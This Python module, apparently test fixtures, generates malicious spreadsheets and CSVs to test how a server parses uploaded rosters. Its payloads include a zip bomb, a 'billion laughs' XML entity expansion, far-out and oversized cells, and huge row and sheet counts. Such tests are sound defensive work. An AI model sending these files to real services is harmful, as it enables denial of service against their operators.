"""Spreadsheets and CSV files built to hurt a server that reads them, written here byte by byte.

Each is a valid zip of the parts an .xlsx needs (or a CSV), small on the wire and costly to read naively:
a cell far out at XFD1048576, one enormous cell, millions of rows, thousands of sheets, a zip bomb, an XML
"billion laughs". The header row is a real roster's, so only the hostility is wrong with the file.
"""

import zipfile

HEADER = ["姓名", "公民身份号码", "网格", "文化程度", "入党时间"]
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    "{sheets}</Types>"
)
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"


def column(n):
    """1 → A, 16384 → XFD."""
    letters = ""
    while n:
        n, rest = divmod(n - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def cell(col, row, text, ref=True):
    r = f' r="{column(col)}{row}"' if ref else ""
    return f'<c{r} t="inlineStr"><is><t>{text}</t></is></c>'


def header_row():
    return '<row r="1">' + "".join(cell(i, 1, h) for i, h in enumerate(HEADER, start=1)) + "</row>"


def sheet_xml(body, dimension=None, prolog=""):
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    head = f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet {NS}>'
    return f"{head}{dim}<sheetData>{body}</sheetData></worksheet>"


def write_xlsx(path, sheets, compression=zipfile.ZIP_DEFLATED):
    """`sheets`: the worksheets' XML, each a str or an iterable of str pieces (streamed into the zip)."""
    with zipfile.ZipFile(path, "w", compression) as z:
        overrides = "".join(
            f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="{SHEET_TYPE}"/>'
            for i in range(1, len(sheets) + 1)
        )
        z.writestr("[Content_Types].xml", CONTENT_TYPES.format(sheets=overrides))
        z.writestr(
            "_rels/.rels",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        )
        names = "".join(f'<sheet name="Sheet{i}" sheetId="{i}" r:id="rId{i}"/>' for i in range(1, len(sheets) + 1))
        z.writestr(
            "xl/workbook.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><workbook {NS} xmlns:r="{REL_NS}">'
            f"<sheets>{names}</sheets></workbook>",
        )
        rels = "".join(
            f'<Relationship Id="rId{i}" Type="{REL_NS}/worksheet" Target="worksheets/sheet{i}.xml"/>'
            for i in range(1, len(sheets) + 1)
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            '<?xml version="1.0" encoding="UTF-8"?>'
            f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{rels}</Relationships>',
        )
        for i, xml in enumerate(sheets, start=1):
            if isinstance(xml, str):
                z.writestr(f"xl/worksheets/sheet{i}.xml", xml)
            else:
                with z.open(f"xl/worksheets/sheet{i}.xml", "w", force_zip64=True) as out:
                    for piece in xml:
                        out.write(piece.encode())
    return path


def far_cell(path, ref_col, ref_row, declared=True):
    """A roster's header and one cell far out (XFD1048576: the last cell a sheet can have)."""
    body = header_row() + f'<row r="{ref_row}">{cell(ref_col, ref_row, "x")}</row>'
    dimension = f"A1:{column(ref_col)}{ref_row}" if declared else "A1:E1"
    return write_xlsx(path, [sheet_xml(body, dimension)])


def unreferenced_far_cell(path, columns=16384, rows=4000):
    """Cells without references (r is optional): a first row `columns` wide and a cell at row `rows`, so only
    reading the file finds how far it reaches."""
    wide = "<row>" + cell(1, 1, "姓名", ref=False) + "<c/>" * (columns - 2) + cell(0, 0, "x", ref=False) + "</row>"
    body = wide + "<row/>" * (rows - 2) + "<row>" + cell(0, 0, "x", ref=False) + "</row>"
    return write_xlsx(path, [sheet_xml(body)])


def huge_cell(path, size):
    """One cell of `size` characters under the header."""

    def pieces():
        yield sheet_xml("\x00").split("\x00")[0] + header_row() + '<row r="2"><c r="A2" t="inlineStr"><is><t>'
        chunk = "党" * 100_000
        for _ in range(size // len(chunk)):
            yield chunk
        yield "</t></is></c></row>" + sheet_xml("\x00").split("\x00")[1]

    return write_xlsx(path, [pieces()])


def many_rows(path, rows):
    """A header and `rows` tiny rows."""

    def pieces():
        yield sheet_xml("\x00").split("\x00")[0] + header_row()
        for start in range(2, rows + 2, 10_000):
            yield "".join(
                f'<row r="{r}"><c r="A{r}"><v>1</v></c></row>' for r in range(start, min(start + 10_000, rows + 2))
            )
        yield sheet_xml("\x00").split("\x00")[1]

    return write_xlsx(path, [pieces()])


def many_sheets(path, count):
    return write_xlsx(path, [sheet_xml(header_row())] * count)


def zip_bomb(path, size):
    """A sheet that inflates to `size` bytes of blanks (deflate packs about a thousand to one)."""

    def pieces():
        yield sheet_xml("\x00").split("\x00")[0] + header_row()
        blanks = " " * 1_000_000
        for _ in range(size // len(blanks)):
            yield blanks
        yield sheet_xml("\x00").split("\x00")[1]

    return write_xlsx(path, [pieces()])


def billion_laughs(path):
    """XML entity expansion: ten levels of ten, a thousand million "lol"s from a few hundred bytes."""
    entities = '<!ENTITY lol0 "lol">' + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    body = header_row() + '<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
    return write_xlsx(path, [sheet_xml(body, prolog=f"<!DOCTYPE worksheet [{entities}]>")])


def csv_rows(path, rows):
    with open(path, "w", encoding="utf-8") as f:
        f.write(",".join(HEADER) + "\n")
        line = "1\n" * 10_000
        for _ in range(rows // 10_000):
            f.write(line)
    return path


def csv_long_line(path, size):
    with open(path, "w", encoding="utf-8") as f:
        f.write(",".join(HEADER) + "\n")
        f.write("张三," + "1" * size + "\n")
    return path
